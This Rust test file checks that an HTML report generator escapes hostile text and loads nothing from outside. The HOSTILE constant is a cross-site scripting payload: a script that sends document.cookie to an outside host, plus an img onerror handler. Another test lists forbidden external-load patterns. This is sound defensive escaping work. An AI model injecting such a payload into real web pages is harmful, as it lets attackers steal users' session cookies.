//! The page as a whole: whole, and safe.

use super::*;
use crate::campaign::record::{FaultTimes, RunRecord, SCHEMA, Sums};
use crate::report::read::{Place, Runs};

const HOSTILE: &str = "</style><script>fetch('https://example.org/?'+document.cookie)</script><img src=x onerror=\"a()\">'\"&\u{0}";

/// A run whose every text is hostile.
fn hostile(id: &str) -> RunRecord {
    let text = || HOSTILE.to_owned();
    let fault = |attempt: u16| FaultTimes {
        owner: text(),
        side: text(),
        access: text(),
        attempt,
        exit: u64::from(attempt) * 1000,
        decided: u64::from(attempt) * 1000 + 1,
        resumed: u64::from(attempt) * 1000 + 2,
        back: u64::from(attempt) * 1000 + 3,
        ..FaultTimes::default()
    };
    RunRecord {
        schema: SCHEMA.into(),
        id: format!("{id}{HOSTILE}"),
        workload: text(),
        words: text(),
        rules: vec![text()],
        level: text(),
        kind: text(),
        aimed: vec![text()],
        operation: text(),
        build: text(),
        host: text(),
        mechanism: text(),
        verdict: text(),
        violated: Some(text()),
        why: vec![text()],
        faults: Sums { trapped: 2, reflected: 2, ..Sums::default() },
        timeline: vec![fault(1), fault(2)],
        ..RunRecord::default()
    }
}

fn page(records: Vec<RunRecord>) -> String {
    let places = vec![Place { file: HOSTILE.into(), line: 1 }; records.len()];
    let runs = Runs { records, places, repeated: 1, cut_off: vec![HOSTILE.into()] };
    render(&Document::new(&[HOSTILE.into()], &runs))
}

/// Names of the tags that are open at the end, and whether each was closed in order.
fn open_tags(page: &str) -> Vec<&str> {
    let mut open = Vec::new();
    for piece in page.split('<').skip(1) {
        let name = piece
            .split(|c: char| c.is_whitespace() || c == '>' || c == '/' && !piece.starts_with('/'))
            .next()
            .unwrap();
        match name.strip_prefix('/') {
            Some(name) => assert_eq!(open.pop(), Some(name), "{piece:.60}"),
            None if name.starts_with('!') || name == "meta" => {}
            None if piece.split('>').next().unwrap().ends_with('/') => {}
            None => open.push(name),
        }
    }
    open
}

#[test]
fn hostile_texts_stay_texts() {
    let page = page(vec![hostile("a"), hostile("b")]);
    assert!(page.contains("&lt;script&gt;fetch(&#39;https:"));
    for forbidden in ["<script", "<img", "onerror=\"", "\u{0}"] {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
    assert_eq!(page.matches("</style>").count(), 1);
    assert_eq!(open_tags(&page), Vec::<&str>::new());
}

#[test]
fn every_part_is_there_even_of_nearly_nothing() {
    let nearly = RunRecord { verdict: "PASS".into(), ..RunRecord::default() };
    let page = page(vec![nearly]);
    for id in ["verdicts", "failures", "coverage", "latency", "retry", "rates"] {
        assert!(page.contains(&format!("<section id=\"{id}\"")), "{id}");
        assert!(page.contains(&format!("href=\"#{id}\"")), "{id}");
    }
    assert!(page.contains("No run broke a promise."));
    assert_eq!(open_tags(&page), Vec::<&str>::new());
}

#[test]
fn nothing_is_loaded_from_anywhere() {
    let records = vec![RunRecord { verdict: "SHORT".into(), ..RunRecord::default() }];
    let places = vec![Place { file: "runs.jsonl".into(), line: 1 }];
    let runs = Runs { records, places, ..Runs::default() };
    let page = render(&Document::new(&["out".into()], &runs));
    for forbidden in ["http://", "https://", "src=", "url(", "@import", "<link", "<script", "xlink"] {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
    assert!(page.contains("default-src 'none'"));
}

#[test]
fn no_coordinate_is_out_of_this_world() {
    let mut extreme = hostile("x");
    extreme.timeline[1].back = u64::MAX;
    extreme.run_us = u64::MAX;
    let page = page(vec![extreme, RunRecord { verdict: "PASS".into(), ..RunRecord::default() }]);
    for not_a_number in ["\"NaN", "\"inf", "\"-inf", "=\"-"] {
        assert!(!page.contains(not_a_number), "{not_a_number}");
    }
}
